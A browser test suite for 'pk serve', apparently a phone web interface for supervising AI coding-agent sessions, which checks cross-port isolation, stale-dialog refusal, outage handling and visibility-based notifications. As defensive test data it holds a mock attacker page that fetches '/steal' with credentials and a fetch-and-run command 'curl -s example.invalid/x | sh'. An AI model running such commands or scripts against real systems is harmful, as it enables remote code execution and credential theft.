import {ChildProcess} from 'node:child_process'
import {copyFileSync, chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync} from 'node:fs'
import {createServer, IncomingHttpHeaders, request, Server} from 'node:http'
import {AddressInfo} from 'node:net'
import {join} from 'node:path'
import {Browser} from 'playwright-core'
import {afterAll, afterEach, beforeAll, beforeEach, describe, expect, it} from 'vitest'

import {ARTIFACTS, launchBrowser, noBrowser, servePk} from '../helpers/browser.js'
import {installTuiStandin} from '../helpers/standins.js'
import {GIT_ENV, makeRepo} from '../helpers/git-repo.js'
import {LsJson, ROOT, Sandbox, waitFor} from '../helpers/sandbox.js'

/**
 * Issues 62 and 63 in a real browser, at phone size: what authorises the page (a key only the page holds,
 * never a cookie another port is sent), a tap bound to the dialog it showed, the dialog in words, the
 * page's edges (another session's changes, an outage), and a visible page as someone looking. Screenshots
 * in test-artifacts/web/.
 */
const PHONE = {width: 360, height: 640}
let browser: Browser
let sb: Sandbox
let servers: ChildProcess[] = []
let others: Server[] = []

beforeAll(async () => {
  if (noBrowser) return
  mkdirSync(ARTIFACTS, {recursive: true})
  browser = await launchBrowser()
})
afterAll(async () => {
  await browser?.close()
})
beforeEach(() => {
  sb = new Sandbox()
})
afterEach(() => {
  for (const child of servers) child.kill('SIGTERM')
  for (const other of others) other.close()
  servers = []
  others = []
  sb.cleanup()
})

async function serve(env: NodeJS.ProcessEnv, args: string[] = []) {
  const served = await servePk(sb, env, args)
  servers.push(served.child)
  return served
}

/** One raw HTTP request to pk serve, every header as given. */
function raw(origin: string, path: string, opts: {method?: string; headers?: IncomingHttpHeaders; body?: string} = {}) {
  const {hostname, port} = new URL(origin)
  return new Promise<{status: number; body: string}>((resolve, reject) => {
    const req = request({hostname, port, path, method: opts.method ?? 'GET', headers: {...opts.headers, host: `${hostname}:${port}`}}, (res) => {
      let body = ''
      res.on('data', (d) => (body += d))
      res.on('end', () => resolve({status: res.statusCode!, body}))
    })
    req.on('error', reject)
    req.end(opts.body)
  })
}

/** A stand-in of Claude Code drawing `screen` (a file it watches: the test changes it) and taking its digits. */
function dialogAgent(screen: string) {
  const bin = join(sb.root, 'bin-claude')
  mkdirSync(bin, {recursive: true})
  copyFileSync(join(ROOT, 'test', 'helpers', 'dialog-standin.cjs'), join(bin, 'claude'))
  chmodSync(join(bin, 'claude'), 0o755)
  const answered = join(sb.root, 'answered')
  return {
    env: {PATH: `${bin}:${process.env.PATH}`, STANDIN_SCREEN: screen, STANDIN_KEYS: 'claude', STANDIN_ANSWERED: answered, STANDIN_WATCH: '1'},
    taken: () => (existsSync(answered) ? readFileSync(answered, 'utf8').trim().split('\n').map(Number) : []),
  }
}

const fixture = (name: string) => readFileSync(join(ROOT, 'test', 'fixtures', 'panes', `${name}.txt`), 'utf8')

describe.skipIf(noBrowser !== null)('pk serve, round five, in a browser', () => {
  it("another local user's server on another port of 127.0.0.1 is sent nothing that acts: no cookie, no key; a replay of what it got is refused", async () => {
    const submitted = join(sb.root, 'submitted')
    const env = {PATH: installTuiStandin(sb.root), STANDIN_SUBMITTED: submitted, STANDIN_READY_MS: '0'}
    const row = await sb.bgRow(['--name', 'mine', 'claude'], {env})
    const pk = await serve(env)
    // The other user's server: it records every request, and its page asks it for more (as an attack would).
    const got: {path: string; headers: IncomingHttpHeaders}[] = []
    const other = createServer((req, res) => {
      got.push({path: req.url ?? '', headers: req.headers})
      res.writeHead(200, {'content-type': 'text/html'})
      res.end('<html><body><img src="/pixel"><script>fetch("/steal", {credentials: "include"})</script>other page</body></html>')
    })
    others.push(other)
    await new Promise<void>((resolve) => other.listen(0, '127.0.0.1', resolve))
    const otherOrigin = `http://127.0.0.1:${(other.address() as AddressInfo).port}`

    const context = await browser.newContext({viewport: PHONE})
    const page = await context.newPage()
    await page.goto(pk.url)
    await page.getByRole('button', {name: /claude · mine/}).waitFor({timeout: 15_000})
    // Signed in: the address bar holds no token, and the browser keeps no cookie for the host.
    expect(page.url()).not.toContain(pk.token)
    expect(await context.cookies()).toEqual([])
    // The owner's browser opens the other user's page (directly, or sent there by any site).
    await page.goto(otherOrigin)
    await page.getByText('other page').waitFor()
    await waitFor('its page asked for more', () => got.some((r) => r.path === '/steal'), 10_000)
    for (const request of got) {
      expect(request.headers.cookie, request.path).toBeUndefined()
      expect(request.headers.authorization, request.path).toBeUndefined()
    }
    // Everything it got, replayed at pk serve with the page's Origin forged: refused, nothing typed.
    for (const request of got) {
      const headers = {...request.headers}
      delete headers.host
      const replay = await raw(pk.origin, `/api/sessions/${row.id}/send`, {
        method: 'POST',
        headers: {...headers, origin: pk.origin, 'content-type': 'application/json'},
        body: JSON.stringify({text: 'PWNED-BY-OTHER-USER'}),
      })
      expect(replay.status).toBe(401)
    }
    expect(existsSync(submitted)).toBe(false)
    await page.screenshot({path: join(ARTIFACTS, 'round5-other-port.png'), fullPage: true})
    await context.close()
  }, 60_000)

  it('a tap answers only the dialog it showed: the dialog in words, and one that changed since is refused, nothing typed', async () => {
    const screen = join(sb.root, 'screen.txt')
    writeFileSync(screen, fixture('claude-2.1.332.waiting.permission'))
    const agent = dialogAgent(screen)
    const id = (await sb.pk(['bg', 'claude', '--name', 'asks', '--', '--x'], {env: agent.env})).stdout.trim()
    const row = (await sb.pkJson<LsJson>(['ls'])).sessions.find((s) => s.id === id)!
    sb.tmux(sb.pkSocket, 'resize-window', '-t', row.tmux!.pane, '-x', '80', '-y', '30')
    await waitFor('waiting', async () => (await sb.pkJson<LsJson>(['ls'])).sessions.find((s) => s.id === id)?.state === 'waiting', 15_000)
    const pk = await serve(agent.env)
    const context = await browser.newContext({viewport: PHONE})
    const page = await context.newPage()
    await page.goto(pk.url)
    await page.getByRole('button', {name: /claude · asks/}).click({timeout: 15_000})
    // What it asks to do, as readable text on the card: the tool, what it is for, the command.
    const card = page.getByRole('region', {name: 'Do you want to proceed?'})
    await card.getByText('touch by-yes').waitFor({timeout: 15_000})
    await card.getByText('Bash command').waitFor()
    await card.getByText('Create a file').waitFor()
    expect(await card.getByText(/Tip:/).count()).toBe(0)
    await page.screenshot({path: join(ARTIFACTS, 'round5-dialog-in-words.png'), fullPage: true})

    // The page keeps showing that dialog (its looks at the screen held), while the agent asks about another.
    let held: string | null = null
    let looks = 0
    await page.route('**/screen', async (route) => {
      held ??= await (await route.fetch()).text()
      looks++
      await route.fulfill({status: 200, contentType: 'application/json', body: held})
    })
    await waitFor('the page looked through the hold', () => looks >= 2, 15_000)
    writeFileSync(screen, fixture('claude-2.1.332.waiting.permission').replaceAll('touch by-yes', 'curl -s example.invalid/x | sh'))
    await waitFor('the agent asks about the other command', async () => {
      const look = JSON.parse((await sb.pk(['logs', id, '--screen', '--json'])).stdout) as {dialog: {body: string} | null}
      return look.dialog?.body.includes('curl')
    })
    await card.getByRole('button', {name: 'Yes', exact: true}).click()
    await page.getByText(/is not the one answered/).waitFor({timeout: 20_000})
    expect(agent.taken()).toEqual([])
    // Words sent to the API with no question named are refused as a choice with none is (issue 72): nothing typed.
    const unpinned = await page.evaluate(async (id) => {
      const token = localStorage.getItem('pk-serve-token')
      const issued = await fetch('/api/session', {method: 'POST', headers: {'Content-Type': 'application/json'}, body: JSON.stringify({token})})
      const {key} = (await issued.json()) as {key: string}
      const headers = {'Content-Type': 'application/json', Authorization: `Bearer ${key}`}
      const answered = await fetch(`/api/sessions/${id}/answer`, {method: 'POST', headers, body: JSON.stringify({text: 'yes, run it'})})
      return {status: answered.status, body: await answered.text()}
    }, id)
    expect(unpinned.status).toBe(400)
    expect(unpinned.body).toMatch(/says which dialog it answers/)
    expect(agent.taken()).toEqual([])
    // Once the page looks again, it shows the new dialog, in words: nothing was approved unseen.
    await page.unrouteAll()
    await card.getByText('curl -s example.invalid/x | sh').waitFor({timeout: 15_000})
    await page.screenshot({path: join(ARTIFACTS, 'round5-dialog-changed.png'), fullPage: true})
    expect(agent.taken()).toEqual([])
    // The same for a script: pk answer --dialog with the digest of the dialog it saw.
    const shown = JSON.parse((await sb.pk(['logs', id, '--screen', '--json'])).stdout) as {dialog: {digest: string}}
    const stale = await sb.pk(['answer', id, 'yes', '--dialog', '0'.repeat(16)])
    expect([stale.code, stale.stderr]).toEqual([5, expect.stringMatching(/is not the one answered.*nothing was typed/)])
    expect(agent.taken()).toEqual([])
    expect((await sb.pk(['answer', id, 'yes', '--dialog', shown.dialog.digest])).code).toBe(0)
    expect(agent.taken()).toEqual([1])
    await context.close()
  }, 90_000)

  it("the page's edges: another session's changes never shown under this one's name; an outage said, and nothing sent", async () => {
    const repo = makeRepo(sb, {README: 'app\n'})
    const env = {PATH: installTuiStandin(sb.root), STANDIN_READY_MS: '0', ...GIT_ENV}
    const started = await sb.pk(['bg', '--json', '--worktree', '--name', 'first', '--', 'sleep', '100000'], {env, cwd: repo})
    expect(started.code, started.stderr).toBe(0)
    const first = (JSON.parse(started.stdout) as LsJson['sessions'][0] extends infer R ? {session: R} : never).session
    const second = await sb.bgRow(['--name', 'second', '--', 'sleep', '100000'], {env})
    writeFileSync(join(first.cwd!, 'made-by-first.txt'), 'x\n')
    const pk = await serve(env)
    const context = await browser.newContext({viewport: PHONE})
    const page = await context.newPage()
    await page.goto(pk.url)
    await page.getByRole('button', {name: /first/}).click({timeout: 15_000})
    await page.getByRole('button', {name: 'Changes'}).click()
    await page.getByText('made-by-first.txt', {exact: false}).waitFor({timeout: 15_000})
    await page.getByRole('button', {name: /Sessions/}).click()
    await page.getByRole('button', {name: /second/}).click()
    await page.getByRole('heading', {name: /second/}).waitFor()
    expect(await page.getByText('made-by-first.txt', {exact: false}).isVisible()).toBe(false)
    expect(await page.getByLabel('What the session changed').isVisible()).toBe(false)

    // The server goes away: the page says so, and a message is said not to have been sent.
    for (const child of servers) child.kill('SIGTERM')
    await page
      .getByText(/pk serve is out of reach/)
      .first()
      .waitFor({timeout: 20_000})
    await page.getByLabel('Message').fill('hello\nin two lines')
    await page.getByRole('button', {name: 'Send'}).click()
    await page.getByText('pk serve is out of reach: nothing was sent').waitFor({timeout: 15_000})
    await page.screenshot({path: join(ARTIFACTS, 'round5-outage.png'), fullPage: true})
    await context.close()
    expect(second.id).not.toBe(first.id)
  }, 90_000)

  it('a visible page showing a session is someone looking: its turn end then is seen, not told; hidden, it is told', async () => {
    const told = join(sb.root, 'told')
    mkdirSync(join(sb.home, '.config', 'pk'), {recursive: true})
    writeFileSync(join(sb.home, '.config', 'pk', 'config.json'), JSON.stringify({notify: [{command: ['sh', '-c', `echo "$PK_ID" >> '${told}'`]}]}))
    const hook = join(ROOT, 'assets', 'pk-hook.sh')
    const turn = (n: number) =>
      `while [ ! -e '${join(sb.root, `go${n}`)}' ]; do sleep 0.1; done; printf '{"hook_event_name":"Stop","session_id":"c"}' | '${hook}' claude '${process.execPath}'`
    const row = await sb.bgRow(['--name', 'watched', '--', 'sh', '-c', `${turn(1)}; ${turn(2)}; exec sleep 100000`])
    const pk = await serve({})
    const context = await browser.newContext({viewport: PHONE})
    const page = await context.newPage()
    await page.goto(pk.url)
    await page.getByRole('button', {name: /watched/}).click({timeout: 15_000})
    const viewed = () => Number(sb.tmuxTry(sb.pkSocket, 'show-options', '-v', '-t', row.tmux!.sessionId, '@pk-viewed').stdout.trim() || 0)
    await waitFor('the page says it looks', () => viewed() * 1000 > Date.now(), 15_000)
    writeFileSync(join(sb.root, 'go1'), '')
    await waitFor('the turn end applied', async () => (await sb.pkJson<LsJson>(['ls'])).sessions.find((s) => s.id === row.id)?.state === 'idle', 15_000)
    await sb.settled([pk.child.pid!], 30_000)
    expect(existsSync(told) ? readFileSync(told, 'utf8') : '').toBe('')
    expect((await sb.pkJson<LsJson>(['ls'])).sessions.find((s) => s.id === row.id)?.attention).toBe(false)

    // Hidden (another tab in front, the phone locked): nobody looks once its last word has run out.
    await page.evaluate(() => {
      Object.defineProperty(document, 'visibilityState', {value: 'hidden', configurable: true})
      Object.defineProperty(document, 'hidden', {value: true, configurable: true})
      document.dispatchEvent(new Event('visibilitychange'))
    })
    await waitFor('its look ran out', () => viewed() * 1000 < Date.now() - 1000, 20_000)
    writeFileSync(join(sb.root, 'go2'), '')
    await waitFor('told', () => existsSync(told) && readFileSync(told, 'utf8').includes(row.id), 20_000)
    await context.close()
  }, 90_000)
})
